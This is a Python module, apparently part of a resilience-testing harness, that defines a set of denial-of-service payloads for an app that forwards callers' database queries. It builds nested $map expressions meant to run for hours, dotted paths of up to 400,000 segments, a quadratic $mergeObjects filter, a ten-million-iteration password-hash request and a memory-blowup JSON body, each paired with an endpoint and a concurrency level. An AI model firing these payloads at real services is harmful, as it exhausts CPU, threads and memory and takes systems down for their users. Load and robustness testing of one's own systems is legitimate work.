"""The attacks: what is sent to an app that hands its callers' queries on."""

import json
from dataclasses import dataclass, field


@dataclass(frozen=True)
class Attack:
    name: str
    why: str
    route: str
    bodies: list = field(repr=False)
    at_once: int = 1


def body(**fields):
    return json.dumps(fields).encode()


def endless(levels=4):
    """An expression that computes for hours, and that no optimiser can do in advance."""
    numbers = {"$range": [0, 100_000]}
    inner = {"$add": ["$n", 1]}
    for level in range(levels):
        inner = {"$map": {"input": numbers, "as": f"x{level}", "in": inner}}
    return {"$eq": [inner, "$n"]}


def deep_paths():
    path = ".".join("a" * 5_700)
    longer = ".".join("a" * 33_000)
    return [body(projection={path: "$k"}), body(projection={longer: 1})]


def wide_merge():
    objects = [{f"f{number}": number} for number in range(40_000)]
    return body(filter={"$expr": {"$mergeObjects": objects}})


def all_attacks():
    return [
        Attack("deep", "recursion over the caller's path", "/find", deep_paths()),
        Attack(
            "deep-write",
            "the same where the writer evaluates it",
            "/findAndUpdate",
            [
                body(
                    filter={"_id": 1},
                    update={"$set": {"n": 1}},
                    projection={".".join("a" * 400_000): 1},
                )
            ],
        ),
        Attack(
            "endless-write",
            "a computation on the thread that writes",
            "/update",
            [body(filter={"$expr": endless()}, update={"$set": {"n": 1}})],
        ),
        Attack(
            "endless-reads",
            "computations on all threads that read",
            "/find",
            [body(filter={"$expr": endless()})],
            at_once=8,
        ),
        Attack(
            "wide",
            "reading a command takes quadratic time",
            "/find",
            [wide_merge()],
            at_once=2,
        ),
        Attack(
            "native",
            "a native computes on the thread that answers",
            "/hashPassword",
            [body(password="secret", iterations=10_000_000)],
            at_once=8,
        ),
        Attack(
            "memory",
            "bodies of 7 MB become hundreds of mebibytes each",
            "/parse",
            [b"[" + b",".join([b"{}"] * 2_400_000) + b"]"],
            at_once=4,
        ),
    ]
